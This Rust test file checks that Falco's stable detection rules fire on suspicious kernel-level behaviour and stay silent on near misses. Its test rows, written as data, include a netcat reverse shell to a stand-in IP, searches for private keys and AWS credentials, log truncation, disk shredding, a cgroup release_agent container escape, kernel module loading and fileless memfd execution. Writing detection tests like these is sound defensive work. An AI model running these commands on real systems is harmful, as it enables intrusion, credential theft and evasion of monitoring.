//! Falco's stable rules on the running kernel: each whose condition needs no container metadata beyond
//! `container.id` fires when a program behaves so, and does not on a near miss.

use std::{collections::BTreeSet, fs, path::PathBuf};

use end_to_end::{
    cgroups::ContainerGroup,
    rows::{Row, failures},
    scratch::Scratch,
};
use yagura::rules::{LoadOptions, RuleMatching, RuleSet, SourceFile};

const DIRECTORY_TRAVERSAL: &str = "Directory traversal monitored file read";
const TRUSTED_READ: &str = "Read sensitive file trusted after startup";
const UNTRUSTED_READ: &str = "Read sensitive file untrusted";
const UNTRUSTED_SHELL: &str = "Run shell untrusted";
const SYSTEM_USER: &str = "System user interactive";
const TERMINAL_SHELL: &str = "Terminal shell in container";
const NETCAT: &str = "Netcat Remote Code Execution in Container";
const SEARCH_KEYS: &str = "Search Private Keys or Passwords";
const CLEAR_LOG: &str = "Clear Log Activities";
const REMOVE_DATA: &str = "Remove Bulk Data from Disk";
const SYMLINK: &str = "Create Symlink Over Sensitive Files";
const HARDLINK: &str = "Create Hardlink Over Sensitive Files";
const PACKET_SOCKET: &str = "Packet socket created in container";
const REDIRECT: &str = "Redirect STDOUT/STDIN to Network Connection in Container";
const MODULE: &str = "Linux Kernel Module Injection Detected";
const RELEASE_AGENT: &str = "Detect release_agent File Container Escapes";
const PTRACE: &str = "PTRACE attached to process";
const ANTI_DEBUG: &str = "PTRACE anti-debug attempt";
const AWS: &str = "Find AWS Credentials";
const SHM: &str = "Execution from /dev/shm";
const DROP: &str = "Drop and execute new binary in container";
const SSH_PORT: &str = "Disallowed SSH Connection Non Standard Port";
const FILELESS: &str = "Fileless execution via memfd_create";

/// Stable rules that no row shows, and why.
const NOT_COVERED: &[(&str, &str)] = &[
    ("Contact K8S API Server From Container", "fd.sip.name: the API server's address is Kubernetes metadata"),
    (
        "Debugfs Launched in Privileged Container",
        "container.privileged is metadata of the container's runtime",
    ),
];

const ROWS: &[Row] = &[
    // Directory traversal.
    Row { does: "openat path=../../../../../../../etc/hostname", fires: &[DIRECTORY_TRAVERSAL] },
    Row {
        does: "openat path=../../../../../../../etc/shadow",
        fires: &[DIRECTORY_TRAVERSAL, UNTRUSTED_READ],
    },
    Row { does: "openat path=../../../../../../../etc/no-such-file", fires: &[DIRECTORY_TRAVERSAL] },
    Row { does: "openat path=/etc/hostname", fires: &[] },
    Row { does: "openat path=../../../../../../../usr/lib/os-release", fires: &[] },
    // Sensitive files, read by anybody, and by a server after its start.
    Row { does: "open path=/etc/shadow", fires: &[UNTRUSTED_READ] },
    Row { does: "open path={dir}/shadow-link", fires: &[UNTRUSTED_READ] },
    Row { does: "open path=/etc/passwd", fires: &[] },
    Row { does: "open path=/etc/shadow flags=O_WRONLY", fires: &[] },
    Row { does: "spawn {bin:su} open path=/etc/shadow", fires: &[] },
    Row {
        does: "spawn {bin:httpd} with age=5100 -- open path=/etc/shadow",
        fires: &[TRUSTED_READ, UNTRUSTED_READ],
    },
    Row { does: "spawn {bin:httpd} open path=/etc/shadow", fires: &[UNTRUSTED_READ] },
    // A shell below a server.
    Row { does: "spawn {bin:nginx} spawn /bin/sh -c :", fires: &[UNTRUSTED_SHELL] },
    Row { does: "spawn {bin:nginx} spawn {bin:bash} spawn /bin/sh -c :", fires: &[UNTRUSTED_SHELL] },
    Row { does: "spawn {bin:nginx} spawn /bin/true", fires: &[] },
    Row { does: "spawn {bin:ordinary} spawn /bin/sh -c :", fires: &[] },
    // A system user below a login.
    Row { does: "spawn {bin:sshd} with gid=1 uid=1 -- spawn /bin/true", fires: &[SYSTEM_USER] },
    Row { does: "spawn {bin:sshd} with gid=65534 uid=65534 -- spawn /bin/true", fires: &[SYSTEM_USER] },
    Row { does: "spawn {bin:sshd} spawn /bin/true", fires: &[] },
    Row { does: "with gid=1 uid=1 -- spawn /bin/true", fires: &[] },
    // A shell with a terminal, as a container's first process.
    Row { does: "with cgroup={cgroup} pty -- spawn {bin:runc} spawn /bin/sh -c :", fires: &[TERMINAL_SHELL] },
    Row { does: "with cgroup={cgroup} session -- spawn {bin:runc} spawn /bin/sh -c :", fires: &[] },
    Row { does: "with pty -- spawn {bin:runc} spawn /bin/sh -c :", fires: &[] },
    Row { does: "with cgroup={cgroup} pty -- spawn {bin:ordinary} spawn /bin/sh -c :", fires: &[] },
    // Netcat that runs commands.
    Row { does: "with cgroup={cgroup} -- spawn {bin:nc} -e /bin/sh 203.0.113.5", fires: &[NETCAT] },
    Row { does: "with cgroup={cgroup} -- spawn {bin:ncat} --sh-exec id", fires: &[NETCAT] },
    Row { does: "with cgroup={cgroup} -- spawn {bin:nc} -l 4444", fires: &[] },
    Row { does: "spawn {bin:nc} -e /bin/sh 203.0.113.5", fires: &[] },
    // Searches.
    Row { does: "spawn {bin:grep} -r BEGIN\\x20RSA\\x20PRIVATE /", fires: &[SEARCH_KEYS] },
    Row { does: "spawn {bin:find} / -name id_ed25519", fires: &[SEARCH_KEYS] },
    Row { does: "spawn {bin:grep} -r BEGIN\\x20CERTIFICATE /", fires: &[] },
    Row { does: "spawn {bin:grep} -ri AWS_Secret_Access_Key /", fires: &[AWS] },
    Row { does: "spawn {bin:find} / -path .aws/credentials", fires: &[AWS] },
    Row { does: "spawn {bin:find} / -path .aws/config", fires: &[] },
    // Logs and data.
    Row { does: "open path=auth.log flags=O_WRONLY|O_TRUNC|O_CREAT", fires: &[CLEAR_LOG] },
    Row { does: "openat path=/var/log/yagura-test.log flags=O_WRONLY|O_TRUNC|O_CREAT", fires: &[CLEAR_LOG] },
    Row { does: "open path=auth.log flags=O_WRONLY|O_APPEND|O_CREAT", fires: &[] },
    Row { does: "open path=notes.log flags=O_WRONLY|O_TRUNC|O_CREAT", fires: &[] },
    Row { does: "spawn {bin:shred} disk", fires: &[REMOVE_DATA] },
    Row { does: "spawn {bin:shredder} disk", fires: &[] },
    // Links.
    Row { does: "symlink path=/etc/shadow path2=new", fires: &[SYMLINK] },
    Row { does: "symlinkat path=/root/ path2=new dirfd={dir}/sub", fires: &[SYMLINK] },
    Row { does: "symlink path=/etc/hostname path2=new", fires: &[] },
    Row { does: "link path=/etc/shadow path2=/nonexistent/new", fires: &[HARDLINK] },
    Row { does: "link path=/etc/shadow path2=second", fires: &[HARDLINK] },
    Row { does: "linkat path=shadow dirfd=/etc path2=/nonexistent/new", fires: &[HARDLINK] },
    Row { does: "link path=/etc/hostname path2=/nonexistent/new", fires: &[] },
    // Sockets.
    Row {
        does: "with cgroup={cgroup} -- socket domain=AF_PACKET type=SOCK_RAW protocol=0x300",
        fires: &[PACKET_SOCKET],
    },
    Row { does: "with cgroup={cgroup} -- socket domain=AF_INET type=SOCK_STREAM", fires: &[] },
    Row { does: "socket domain=AF_PACKET type=SOCK_RAW protocol=0x300", fires: &[] },
    Row { does: "with cgroup={cgroup} -- dup2 tcp=4 new=0", fires: &[REDIRECT] },
    Row { does: "with cgroup={cgroup} -- dup3 tcp=6 new=0", fires: &[REDIRECT] },
    Row { does: "with cgroup={cgroup} -- dup2 tcp=4 new=77", fires: &[] },
    Row { does: "with cgroup={cgroup} -- dup2 path=file new=0", fires: &[] },
    Row { does: "dup2 tcp=4 new=0", fires: &[] },
    Row {
        does: "lonely-net ip=203.0.113.5 port=443 -- spawn {bin:ssh} connect ip=203.0.113.5 port=443",
        fires: &[SSH_PORT],
    },
    Row {
        does: "lonely-net ip=203.0.113.5 port=443 -- spawn {bin:ssh} connect ip=203.0.113.5 port=443 nonblock",
        fires: &[SSH_PORT],
    },
    Row {
        does: "lonely-net ip=203.0.113.5 port=22 -- spawn {bin:ssh} connect ip=203.0.113.5 port=22",
        fires: &[],
    },
    Row {
        does: "lonely-net ip=10.1.2.3 port=443 -- spawn {bin:ssh} connect ip=10.1.2.3 port=443",
        fires: &[],
    },
    Row {
        does: "lonely-net ip=203.0.113.5 port=443 -- spawn {bin:curl} connect ip=203.0.113.5 port=443",
        fires: &[],
    },
    // The kernel and other processes.
    Row { does: "with cgroup={cgroup} -- init_module params=x", fires: &[MODULE] },
    Row { does: "with cgroup={cgroup} -- finit_module path=file params=x", fires: &[MODULE] },
    Row { does: "with cgroup={cgroup} uid=65534 -- init_module params=x", fires: &[] },
    Row { does: "init_module params=x", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- open path=release_agent flags=O_WRONLY|O_CREAT",
        fires: &[RELEASE_AGENT],
    },
    Row { does: "with cgroup={cgroup} -- open path=release_agent flags=O_RDONLY|O_CREAT", fires: &[] },
    Row { does: "open path=release_agent flags=O_WRONLY|O_CREAT", fires: &[] },
    Row { does: "ptrace-child request=PTRACE_ATTACH", fires: &[PTRACE] },
    Row { does: "ptrace request=PTRACE_POKETEXT pid=4194305", fires: &[PTRACE] },
    Row { does: "ptrace request=PTRACE_PEEKTEXT pid=4194305", fires: &[] },
    Row { does: "ptrace request=PTRACE_TRACEME", fires: &[ANTI_DEBUG] },
    Row { does: "ptrace request=PTRACE_DETACH pid=4194305", fires: &[] },
    // Programs from where none should be.
    Row { does: "execve path={shm}/program -- {shm}/program", fires: &[SHM] },
    Row { does: "with cwd={shm} -- execve path=./program -- ./program", fires: &[SHM] },
    Row { does: "execve path={dir}/bin/actor -- {dir}/bin/actor facts", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- overlay lower={dir}/lower upper={dir}/upper work={dir}/work merged={dir}/merged -- execve path={dir}/merged/above -- above facts",
        fires: &[DROP],
    },
    Row {
        does: "with cgroup={cgroup} -- overlay lower={dir}/lower upper={dir}/upper work={dir}/work merged={dir}/merged -- execve path={dir}/merged/below -- below facts",
        fires: &[],
    },
    Row {
        does: "overlay lower={dir}/lower upper={dir}/upper work={dir}/work merged={dir}/merged -- execve path={dir}/merged/above -- above facts",
        fires: &[],
    },
    Row { does: "exec-memfd path={actor} name=hidden -- innocent facts", fires: &[FILELESS] },
    Row { does: "exec-deleted path={dir}/lower/below -- innocent facts", fires: &[] },
    Row {
        does: "spawn {bin:runc} tower levels=1 -- exec-memfd path={actor} name=hidden -- innocent facts",
        fires: &[],
    },
];

fn stable_file() -> Option<PathBuf> {
    let path = end_to_end::repository().join("../shared/falco/rules/falco_rules.yaml");
    if path.exists() {
        return Some(path);
    }
    end_to_end::skipped(&format!("{} is absent, so the stock rules were not tested", path.display()));
    None
}

fn load(path: &PathBuf) -> RuleSet {
    let file =
        SourceFile { name: path.display().to_string(), text: fs::read_to_string(path).expect("readable") };
    let options = LoadOptions { rule_matching: RuleMatching::All, ..LoadOptions::default() };
    let load = yagura::rules::load(&[file], &options);
    load.rules.unwrap_or_else(|| {
        panic!("{:?}", load.diagnostics.iter().map(ToString::to_string).collect::<Vec<_>>())
    })
}

fn prepare(scratch: &mut Scratch, group: &ContainerGroup, shm: &std::path::Path) {
    let dir = scratch.path().to_owned();
    for folder in ["lower", "upper", "work", "merged"] {
        fs::create_dir(dir.join(folder)).expect("a folder");
    }
    fs::copy(end_to_end::actor(), dir.join("lower/below")).expect("a copy");
    fs::copy(end_to_end::actor(), dir.join("upper/above")).expect("a copy");
    std::os::unix::fs::symlink("/etc/shadow", dir.join("shadow-link")).expect("a link");
    scratch.set("cgroup", group.path().to_str().expect("text"));
    scratch.set("shm", shm.to_str().expect("text"));
}

#[test]
fn the_rows_show_every_stable_rule_that_can_be_shown() {
    let Some(path) = stable_file() else { return };
    let rules = load(&path);
    let all: BTreeSet<&str> =
        rules.rules().iter().filter(|rule| rule.enabled).map(|rule| &*rule.name).collect();
    let shown: BTreeSet<&str> = ROWS.iter().flat_map(|row| row.fires.iter().copied()).collect();
    let not_covered: BTreeSet<&str> = NOT_COVERED.iter().map(|(rule, _)| *rule).collect();
    assert_eq!(all.len(), 25, "the stable file: {all:?}");
    assert_eq!(shown.union(&not_covered).copied().collect::<BTreeSet<_>>(), all);
    assert!(shown.is_disjoint(&not_covered));
}

#[test]
fn stable_rules_fire_on_the_behaviour_and_not_on_a_near_miss() {
    let Some(path) = stable_file() else { return };
    if !end_to_end::kernel_tests_run() {
        return;
    }
    let rules = load(&path);
    let group = ContainerGroup::new().expect("a cgroup");
    let shm = tempfile::tempdir_in("/dev/shm").expect("a folder");
    fs::copy(end_to_end::actor(), shm.path().join("program")).expect("a copy");
    let failures = failures(ROWS, &rules, |scratch| prepare(scratch, &group, shm.path()));
    let _gone = fs::remove_file("/var/log/yagura-test.log");
    assert!(failures.is_empty(), "{failures}");
}
